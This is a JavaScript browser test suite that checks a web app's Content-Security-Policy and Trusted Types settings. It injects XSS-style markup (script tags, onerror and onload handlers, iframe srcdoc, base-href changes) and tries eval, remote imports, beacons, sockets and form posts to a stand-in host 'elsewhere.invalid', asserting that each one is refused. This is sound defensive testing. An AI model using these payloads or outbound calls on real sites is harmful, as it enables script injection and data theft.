// The policy in force: whatever is injected is refused and told, by the header alone and by what the
// page says of itself alone, in the page and in its workers; nothing asks anybody else.
import assert from "node:assert/strict";
import { createServer } from "node:net";
import { after, before, test } from "node:test";
import { open, ready, serve } from "../help/browser.js";
import { altered, beforeKeeper, beginWalk, copied, link, openLittle, saved, tap } from "../help/keeping.js";

let site, between;
before(async () => {
  site = await serve();
  between = await proxy();
});
after(() => {
  site?.close();
  between?.close();
});

/** A proxy that lets nothing through and keeps the first line of what is asked of it. */
async function proxy() {
  const asked = [];
  const server = createServer((socket) => {
    socket.on("error", () => {});
    socket.once("data", (bytes) => { asked.push(bytes.toString("latin1").split("\r\n")[0]); socket.end(); });
  });
  await new Promise((done) => { server.listen(0, "127.0.0.1", done); });
  return { asked, address: `http://127.0.0.1:${server.address().port}`, close: () => server.close() };
}

/** A visit that can ask nobody but the proxy, its scripts as they are altered on the way. */
const watched = () => open({ context: { ...altered.context, proxy: { server: between.address, bypass: "localhost" } } });

/** The driver tells what was asked for, also what the policy then refused; the proxy, what left. */
const left = () => between.asked.filter((line) => line.includes("elsewhere"));

const ELSEWHERE = "http://elsewhere.invalid";

/** What a person who got hold of the page's text could write into it, and what forbids each. */
const INJECTED = [
  [`<script>window.harmed = "a script"</script>`, "script-src-elem"],
  [`<script src="${ELSEWHERE}/x.js"></script>`, "script-src-elem"],
  [`<script src="data:text/javascript,window.harmed='data'"></script>`, "script-src-elem"],
  [`<style>body { position: fixed }</style>`, "style-src-elem"],
  [`<link rel="stylesheet" href="${ELSEWHERE}/x.css">`, "style-src-elem"],
  [`<p id="styled" style="position: fixed">styled</p>`, "style-src-attr"],
  [`<img src="data:," onerror="window.harmed = 'a handler'">`, "script-src-attr"],
  [`<svg onload="window.harmed = 'a drawing'"></svg>`, "script-src-attr"],
  [`<img src="${ELSEWHERE}/x.png">`, "img-src"],
  [`<iframe src="${ELSEWHERE}/"></iframe>`, "frame-src"],
  [`<iframe srcdoc="<script>parent.harmed = 'a frame'</script>"></iframe>`, "script-src-elem"],
  [`<object data="${ELSEWHERE}/x"></object>`, "object-src"],
  [`<embed src="${ELSEWHERE}/x">`, "object-src"],
  [`<video src="${ELSEWHERE}/x.webm"></video>`, "media-src"],
  [`<base href="${ELSEWHERE}/">`, "base-uri"],
];

/** A page whose text was altered on its way, with the locks that are wanted alone. */
async function tampered(lock) {
  const visit = await watched();
  const { page } = visit;
  await page.addInitScript(() => {
    window.refused = [];
    document.addEventListener("securitypolicyviolation", (event) => {
      window.refused.push(event.effectiveDirective);
    });
  });
  await page.route(site.address, async (route) => {
    const answer = await route.fetch();
    const headers = { ...answer.headers() };
    let body = await answer.text();
    if (lock === "page") delete headers["content-security-policy"];
    else body = body.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>\n/, "");
    delete headers["content-encoding"];
    delete headers["content-length"];
    body = body.replace("</body>", `${INJECTED.map(([text]) => text).join("\n")}\n</body>`);
    await route.fulfill({ status: 200, headers, body });
  });
  await page.goto(site.address);
  await ready(page);
  return visit;
}

for (const [lock, words] of [["header", "the header alone"], ["page", "what the page says of itself alone"]]) {
  test(`what is written into the page does nothing, by ${words}`, async () => {
    const visit = await tampered(lock);
    const { page } = visit;
    const told = await page.evaluate(() => window.refused);
    for (const directive of new Set(INJECTED.map(([, directive]) => directive))) {
      const often = (list) => list.filter((one) => one === directive).length;
      // What a frame refuses is told in the frame.
      const wanted = often(INJECTED.filter(([text]) => !text.includes("srcdoc")).map(([, one]) => one));
      assert.ok(often(told) >= wanted, `${directive}: ${often(told)} of ${wanted}`);
    }
    assert.equal(await page.evaluate(() => window.harmed), undefined);
    assert.equal(await page.locator("#styled").evaluate((it) => getComputedStyle(it).position), "static");
    assert.equal(await page.evaluate(() => getComputedStyle(document.body).position), "static");
    assert.equal(await page.evaluate(() => document.baseURI), site.address);
    assert.deepEqual(left(), []);
    await openLittle(page); // It works beside all that.
    await visit.close();
  });
}

/** What code that did get in could try; each gives what came of it. */
const TRIED = {
  eval: [() => eval("1"), /EvalError|TypeError/],
  "a function of words": [() => new Function("return 1")(), /EvalError|TypeError/],
  "a fetch": [() => fetch("http://elsewhere.invalid/"), /TypeError/],
  "a worker from elsewhere": [() => new Worker("http://elsewhere.invalid/x.js"), /TypeError|SecurityError/],
  "a worker of words": [() => new Worker(URL.createObjectURL(new Blob(["1"]))), /TypeError|SecurityError/],
  "a worker that is ours, but no worker": [() => new Worker("/service-worker.js"), /TypeError/],
  "a script from elsewhere": [() => import("http://elsewhere.invalid/x.js"), /TypeError/],
  "markup that could run": [() => { document.createElement("p").innerHTML = "<img src=x onerror=alert(1)>"; }, /TypeError/],
  "markup that is styled": [() => { document.createElement("p").innerHTML = "<b style='color:red'>x</b>"; }, /TypeError/],
  "a frame of words": [() => { document.createElement("iframe").srcdoc = "<script>1</script>"; }, /TypeError/],
  "a second policy": [() => trustedTypes.createPolicy("other", { createHTML: (it) => it }), /TypeError/],
  "the same policy again": [() => trustedTypes.createPolicy("default", { createHTML: (it) => it }), /TypeError/],
  "a socket": [() => new Promise((done, fail) => {
    const socket = new WebSocket("ws://elsewhere.invalid/");
    socket.onerror = () => fail(new TypeError("refused"));
    socket.onopen = done;
  }), /TypeError|SecurityError/],
  "events from elsewhere": [() => new Promise((done, fail) => {
    const source = new EventSource("http://elsewhere.invalid/");
    source.onerror = () => fail(new TypeError("refused"));
    source.onopen = done;
  }), /TypeError|SecurityError/],
  "words sent off at the end": [() => {
    if (navigator.sendBeacon("http://elsewhere.invalid/", "trees")) return new Promise((done, fail) => setTimeout(() =>
      (window.refused.includes("connect-src") ? fail(new TypeError("refused")) : done()), 200));
    throw new TypeError("refused");
  }, /TypeError/],
  "a form": [() => new Promise((done, fail) => {
    const form = document.createElement("form");
    form.action = "http://elsewhere.invalid/";
    form.method = "post";
    document.body.append(form);
    form.submit();
    setTimeout(() => (window.refused.includes("form-action") ? fail(new TypeError("refused")) : done()), 500);
  }), /TypeError/],
};

test("what runs in the page makes no code of words and asks nobody else", async () => {
  const visit = await watched();
  const { page } = visit;
  await page.addInitScript(() => {
    window.refused = [];
    document.addEventListener("securitypolicyviolation", (event) => window.refused.push(event.effectiveDirective));
  });
  await page.goto(site.address);
  await ready(page);
  await openLittle(page);
  for (const [what, [attempt, expected]] of Object.entries(TRIED)) {
    // In a turn of its own: within the driver's call more is allowed.
    const cameOf = await page.evaluate(`new Promise((done) => setTimeout(async () => {
      try { await (${attempt})(); done("nothing stopped it"); } catch (error) { done(error.name); }
    }))`);
    assert.match(cameOf, expected, `${what}: ${cameOf}`);
  }
  const told = await page.evaluate(() => [...new Set(window.refused)]);
  for (const directive of ["connect-src", "form-action", "require-trusted-types-for", "trusted-types"]) {
    assert.ok(told.includes(directive), `${directive} in ${told}`);
  }
  assert.deepEqual(left(), []);
  await visit.close();
});

test("a worker makes no code of words and asks nobody else either", async () => {
  const visit = await watched();
  const { context, page } = visit;
  await beforeKeeper(context, `
    const told = new BroadcastChannel("tried");
    const refused = [];
    self.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
    const tried = async (attempt) => {
      try { await attempt(); return "nothing stopped it"; } catch (error) { return error.name; }
    };
    told.onmessage = async () => told.postMessage({
      evaluated: await tried(() => eval("1")),
      fetched: await tried(() => fetch("${ELSEWHERE}/")),
      imported: await tried(() => import("${ELSEWHERE}/x.js")),
      refused,
    });`);
  await page.goto(site.address);
  await ready(page);
  await openLittle(page);
  const told = await page.evaluate(() => new Promise((done) => {
    const channel = new BroadcastChannel("tried");
    channel.onmessage = ({ data }) => done(data);
    channel.postMessage("try");
  }));
  assert.match(told.evaluated, /EvalError|TypeError/);
  assert.equal(told.fetched, "TypeError");
  assert.equal(told.imported, "TypeError");
  assert.ok(told.refused.includes("connect-src"), told.refused.join(" "));
  assert.deepEqual(left(), []);
  await visit.close();
});

test("a visit from end to end asks nobody else: page, workers and service worker, as a proxy sees it", async () => {
  between.asked.length = 0;
  const visit = await open({ context: { proxy: { server: between.address, bypass: "localhost" } } });
  const { page } = visit;
  await page.goto(site.address);
  await ready(page);
  await page.evaluate(() => navigator.serviceWorker.ready);
  await openLittle(page);
  for (const place of ["Find", "Walk", "Proof", "Folder", "Map"]) {
    await link(page, place);
    await page.locator(".on-its-way").waitFor({ state: "detached" });
  }
  await page.evaluate(() => { location.hash = "#/proof/scab"; });
  await page.locator(".verdict-counts").waitFor();
  await beginWalk(page);
  await tap(page, 2);
  await saved(page);
  await link(page, "Folder");
  await copied(page);
  await page.reload();
  await page.locator("nav.places").waitFor();
  // The browser asks its maker for updates and what fields of forms are; no page can forbid that.
  const ofPage = (line) => !/[ /.](google|googleapis|gstatic)\.com[:/]/.test(line);
  assert.deepEqual(between.asked.filter(ofPage), []);
  assert.deepEqual(visit.errors, []);
  // The proxy does see what leaves.
  await page.goto("http://elsewhere.invalid/seen").catch(() => {});
  assert.ok(between.asked.some((line) => line.includes("elsewhere.invalid/seen")), between.asked.join("\n"));
  await visit.close();
});
